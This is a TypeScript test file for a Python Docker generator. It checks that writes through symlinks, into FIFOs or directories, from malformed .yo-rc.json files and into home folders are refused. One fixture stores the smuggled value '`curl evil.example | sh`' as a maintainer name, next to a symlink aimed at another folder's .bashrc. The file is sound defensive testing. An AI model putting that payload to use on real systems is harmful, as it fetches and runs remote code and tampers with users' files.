/**
 * What both front-ends promise about where they read and write: never through
 * a symlink, never into a FIFO, device or directory, never a hand-broken
 * .yo-rc.json or an unsafe include name taken at face value, never a home folder
 * that is not a project. One line and a non-zero exit each time, nothing written.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { FRONT_ENDS, STACK_FRAME, runFrontEnd, suiteFor } from '../helpers/front-ends.js';
import { makeProject } from '../helpers/project.js';

const read = (dir: string, file: string) => readFileSync(join(dir, file), 'utf8');
const names = (dir: string) => readdirSync(dir).sort();

/** The one `python-docker: …` line a refused run prints, and no stack. */
function refusedWith(run: { exitCode?: number; all?: string }, message: string) {
  expect(run.exitCode, run.all).toBe(1);
  expect(run.all).not.toMatch(STACK_FRAME);
  const lines = (run.all ?? '').split('\n').filter((l) => l.startsWith('python-docker: '));
  expect(lines).toEqual([expect.stringContaining(message)]);
}

for (const frontEnd of FRONT_ENDS)
  suiteFor(frontEnd)(`${frontEnd}: never outside the project, never a special file`, () => {
    it("a Dockerfile.new linked to another folder's .bashrc: refused in one line, the victim untouched", async () => {
      const parent = makeProject({ 'victim/.bashrc': 'alias ll="ls -l"\n' });
      const dir = join(parent, 'checkout');
      mkdirSync(dir);
      writeFileSync(join(dir, 'main.py'), 'app = None\n');
      writeFileSync(join(dir, 'Dockerfile'), 'FROM python:3.12\n');
      writeFileSync(
        join(dir, '.yo-rc.json'),
        JSON.stringify({
          'generator-python-docker': { answers: { framework: 'fastapi', maintainer: '`curl evil.example | sh`' } },
        }),
      );
      symlinkSync('../victim/.bashrc', join(dir, 'Dockerfile.new'));
      const run = await runFrontEnd(frontEnd, dir, ['--yes']);
      refusedWith(run, 'Dockerfile.new is a symbolic link');
      expect(read(parent, 'victim/.bashrc')).toBe('alias ll="ls -l"\n');
      expect(names(dir)).toEqual(['.yo-rc.json', 'Dockerfile', 'Dockerfile.new', 'main.py']);
    });

    it.each([
      ['Dockerfile', 'Dockerfile is a symbolic link'],
      ['.dockerignore', '.dockerignore is a symbolic link'],
      ['.yo-rc.json', '.yo-rc.json is a symbolic link'],
    ])('%s as a link (dangling too) is refused, nothing written', async (name, message) => {
      const parent = makeProject({ 'victim/file': 'precious\n' });
      const dir = join(parent, 'checkout');
      mkdirSync(dir);
      writeFileSync(join(dir, 'main.py'), 'app = None\n');
      symlinkSync('../victim/file', join(dir, name));
      // Yeoman's own storage reads .yo-rc.json as yo starts it (not under yeoman-test): run yo as yo runs.
      const own = { ownProcess: name === '.yo-rc.json' };
      refusedWith(await runFrontEnd(frontEnd, dir, ['--yes'], own), message);
      expect(read(parent, 'victim/file')).toBe('precious\n');
      expect(names(dir)).toEqual([name, 'main.py'].sort());

      rmSync(join(dir, name));
      symlinkSync('../victim/nothing-here', join(dir, name));
      refusedWith(await runFrontEnd(frontEnd, dir, ['--yes'], own), message);
      expect(names(parent)).toEqual(['checkout', 'victim']);
      expect(names(join(parent, 'victim'))).toEqual(['file']);
    });

    it.each([
      ['Dockerfile', 'directory', 'Dockerfile is a directory, not a regular file'],
      ['.yo-rc.json', 'directory', '.yo-rc.json is a directory, not a regular file'],
      ['Dockerfile', 'fifo', 'Dockerfile is a named pipe (FIFO), not a regular file'],
      ['.yo-rc.json', 'fifo', '.yo-rc.json is a named pipe (FIFO), not a regular file'],
      ['requirements.txt', 'fifo', 'requirements.txt is a named pipe (FIFO), not a regular file'],
      ['.dockerignore', 'fifo', '.dockerignore is a named pipe (FIFO), not a regular file'],
    ])('%s as a %s: one line, no hang, nothing written', async (name, kind, message) => {
      const dir = makeProject({ 'main.py': 'app = None\n' });
      if (kind === 'directory') mkdirSync(join(dir, name));
      else execFileSync('mkfifo', [join(dir, name)]);
      refusedWith(await runFrontEnd(frontEnd, dir, ['--yes'], { ownProcess: name === '.yo-rc.json' }), message);
      expect(names(dir)).toEqual([name, 'main.py'].sort());
    });

    it('a requirements file included with -r that is a link to /dev/zero is refused, not read', async () => {
      const dir = makeProject({ 'main.py': 'app = None\n', 'requirements.txt': 'fastapi\nuvicorn\n-r extra.txt\n' });
      symlinkSync('/dev/zero', join(dir, 'extra.txt'));
      refusedWith(
        await runFrontEnd(frontEnd, dir, ['--yes']),
        'requirements.txt: includes extra.txt, which is a symbolic link, not a regular file',
      );
      expect(names(dir)).toEqual(['extra.txt', 'main.py', 'requirements.txt']);
    });

    it.each([
      [
        '{"generator-python-docker": {"files": {"Dockerfile": 5}}}',
        '"generator-python-docker".files."Dockerfile" is not text',
      ],
      [
        `{"generator-python-docker": {"answers": {"port": ${'['.repeat(5000)}${']'.repeat(5000)}}}}`,
        '"generator-python-docker".answers."port" is not a plain value',
      ],
      ['{"generator-python-docker": []}', '"generator-python-docker" is not an object'],
      ['[1, 2]', '.yo-rc.json: not a JSON object'],
      ['{"generator-python-docker": ', '.yo-rc.json: not valid JSON (Unexpected end of JSON input)'],
      ['\ufeff\ufeff{}', '.yo-rc.json: not valid JSON'],
      [Buffer.from('\ufeff{}', 'utf16le').toString('latin1'), '.yo-rc.json: not UTF-8 (UTF-16?); save it as UTF-8'],
      [
        '{"generator-python-docker": {"answers": {"port": "80\\n99"}}}',
        '.yo-rc.json: the stored answer "generator-python-docker".answers.port: "80\\n99" is not a port; expected a whole number from 1 to 65535; fix or delete it there, or give --port',
      ],
      [
        '{"generator-python-docker": {"answers": {"framework": "flask", "compose": "yes"}}}',
        '.yo-rc.json: the stored answer "generator-python-docker".answers.compose: "yes" is not a yes/no flag',
      ],
    ])('a malformed .yo-rc.json (%#) is one line naming what is wrong', async (content, message) => {
      const dir = makeProject({ 'main.py': 'app = None\n' });
      writeFileSync(join(dir, '.yo-rc.json'), content, content.startsWith('\xff') ? 'latin1' : 'utf8');
      refusedWith(await runFrontEnd(frontEnd, dir, ['--yes']), message);
      expect(names(dir)).toEqual(['.yo-rc.json', 'main.py']);
    });

    it("a .yo-rc.json with a byte-order mark (a Windows editor's) is read, and its answers kept", async () => {
      const config = { 'generator-python-docker': { answers: { framework: 'fastapi', port: 8123 } } };
      const dir = makeProject({ 'main.py': 'app = None\n', '.yo-rc.json': `\ufeff${JSON.stringify(config)}` });
      const run = await runFrontEnd(frontEnd, dir, ['--yes']);
      expect(run.exitCode, run.all).toBe(0);
      expect(read(dir, 'Dockerfile')).toContain('EXPOSE 8123');
    });

    it('a bad stored answer is not blamed on an option: giving the option settles it', async () => {
      const dir = makeProject({
        'main.py': 'app = None\n',
        '.yo-rc.json': '{"generator-python-docker": {"answers": {"port": "x"}}}',
      });
      const run = await runFrontEnd(frontEnd, dir, ['--yes', '--port', '8124']);
      expect(run.exitCode, run.all).toBe(0);
      expect(read(dir, 'Dockerfile')).toContain('EXPOSE 8124');
    });

    it('a .yo-rc.json over the size limit is refused, not read', async () => {
      const dir = makeProject({ 'main.py': 'app = None\n' });
      writeFileSync(join(dir, '.yo-rc.json'), `{"x": "${'a'.repeat(9 * 1024 * 1024)}"}`);
      refusedWith(
        await runFrontEnd(frontEnd, dir, ['--yes']),
        '.yo-rc.json is 9.0 MB, over the 8 MB the generator reads',
      );
    });

    it.each([
      ["-r '[x],a.txt'\n", '[x],a.txt'],
      ['-r "deps: a.txt"\n', 'deps: a.txt'],
    ])('an include with a name generated files cannot carry (%j) is refused', async (line, name) => {
      const dir = makeProject({
        'main.py': 'app = None\n',
        'requirements.txt': `fastapi\nuvicorn\n${line}`,
        [name]: 'requests\n',
      });
      refusedWith(await runFrontEnd(frontEnd, dir, ['--yes', '--compose']), 'cannot carry safely');
      expect(names(dir)).toEqual([name, 'main.py', 'requirements.txt'].sort());
    });

    it('refuses a home folder that does not look like a Python project; an empty one or a project is fine', async () => {
      const home = makeProject({ '.bashrc': '# mine\n', 'notes.txt': 'x\n' });
      chmodSync(home, 0o755);
      refusedWith(
        await runFrontEnd(frontEnd, home, ['--yes'], { env: { HOME: home } }),
        `refusing to write Docker files in your home folder ${home}`,
      );
      expect(names(home)).toEqual(['.bashrc', 'notes.txt']);

      const empty = makeProject();
      expect((await runFrontEnd(frontEnd, empty, ['--yes'], { env: { HOME: empty } })).exitCode).toBe(0);
      writeFileSync(join(home, 'main.py'), 'app = None\n');
      expect((await runFrontEnd(frontEnd, home, ['--yes'], { env: { HOME: home } })).exitCode).toBe(0);
    });
  });
